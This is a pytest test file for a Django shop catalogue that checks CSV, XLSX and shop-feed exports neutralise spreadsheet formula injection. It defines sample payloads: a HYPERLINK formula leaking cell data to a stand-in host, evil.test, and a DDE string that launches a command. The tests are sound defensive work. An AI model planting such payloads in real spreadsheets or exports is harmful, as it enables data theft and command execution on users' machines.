"""Formula injection: exported sheets and shop files never hand a spreadsheet a live formula."""

import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from tijara.catalog import importer, services
from tijara.catalog.models import ProductText
from tijara.channels.adapters import adapter
from tijara.channels.tests import samples
from tijara.core.spreadsheet import spreadsheet_safe, spreadsheet_unescape

EVIL = '=HYPERLINK("http://evil.test/?"&A1,"click")'


@pytest.mark.parametrize(("value", "expected"), [
    pytest.param(EVIL, "'" + EVIL, id="equals"),
    pytest.param("+33 6 12 12", "'+33 6 12 12", id="plus_text"),
    pytest.param("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", id="minus_dde"),
    pytest.param("@SUM(1,1)", "'@SUM(1,1)", id="at"),
    pytest.param("\t=1+1", "'\t=1+1", id="tab"),
    pytest.param("\r=1+1", "'\r=1+1", id="carriage_return"),
    pytest.param("-1", "-1", id="negative_number"),
    pytest.param("+2.5", "+2.5", id="signed_decimal"),
    pytest.param("Tapis = laine", "Tapis = laine", id="equals_inside"),
    pytest.param("", "", id="empty"),
])
def test_spreadsheet_safe_cases(value, expected):
    assert spreadsheet_safe(value) == expected
    assert spreadsheet_unescape(spreadsheet_safe(value)) == value


@pytest.fixture
def evil_product(organisation, owner_user):
    product = services.product_create(actor=owner_user, organisation=organisation, sku="EVIL-1", craft_family="rugs",
                                      texts={"en": {"title": EVIL, "description": "@SUM(A1:A9)"}})
    services.variant_create(actor=owner_user, product=product, price_mad="100", stock=1)
    return product


def test_xlsx_export_writes_text_cells_not_formulas(organisation, evil_product):
    data = importer.export_products(organisation=organisation, fmt="xlsx", language="key")
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("title_en") + 1)
    assert (cell.value, cell.data_type) == (EVIL, "s")


def test_csv_export_is_neutralised_and_imports_back_unchanged(organisation, evil_product):
    data = importer.export_products(organisation=organisation, fmt="csv", language="key")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0]["title_en"] == "'" + EVIL and rows[0]["description_en"] == "'@SUM(A1:A9)"
    assert rows[0]["price_mad"] == "100"
    report = importer.import_products(organisation=organisation, data=data, filename="export.csv", dry_run=False)
    assert (report.unchanged, report.errors) == (1, [])
    assert ProductText.objects.get(product=evil_product, language_code="en").title == EVIL


@pytest.mark.parametrize("kind", ["shopify", "woocommerce"])
def test_shop_csv_files_are_neutralised(kind):
    module = adapter(kind)
    item = samples.rug(text=samples.TextInput("en", EVIL, "A rug.", ("=cmd",)))
    data = samples.render(module, [item], samples.context(kind), "csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(data)) for cell in row]
    assert "'" + EVIL in cells
    assert not any(cell.startswith(("=", "@")) for cell in cells)


def test_machine_feeds_stay_byte_exact():
    module = adapter("google")
    item = samples.rug(text=samples.TextInput("en", EVIL, "A rug.", ()))
    data = samples.render(module, [item], samples.context("google"), "tsv").decode("utf-8")
    assert EVIL in data and "'" + EVIL not in data


def test_hs_corrections_csv_is_neutralised(tmp_path, organisation, owner_user):
    product = services.product_create(actor=owner_user, organisation=organisation, sku="HS-EVIL", craft_family="rugs",
                                      texts={"en": {"title": "=1+1 rug"}})
    services.product_hs_set(actor=owner_user, product=product, code="570110")
    out = tmp_path / "corrections.csv"
    call_command("export_hs_corrections", "--format", "csv", "--out", str(out))
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert rows and all(not row["text"].startswith("=") for row in rows)
    assert any(row["text"].startswith("'=1+1 rug") for row in rows)
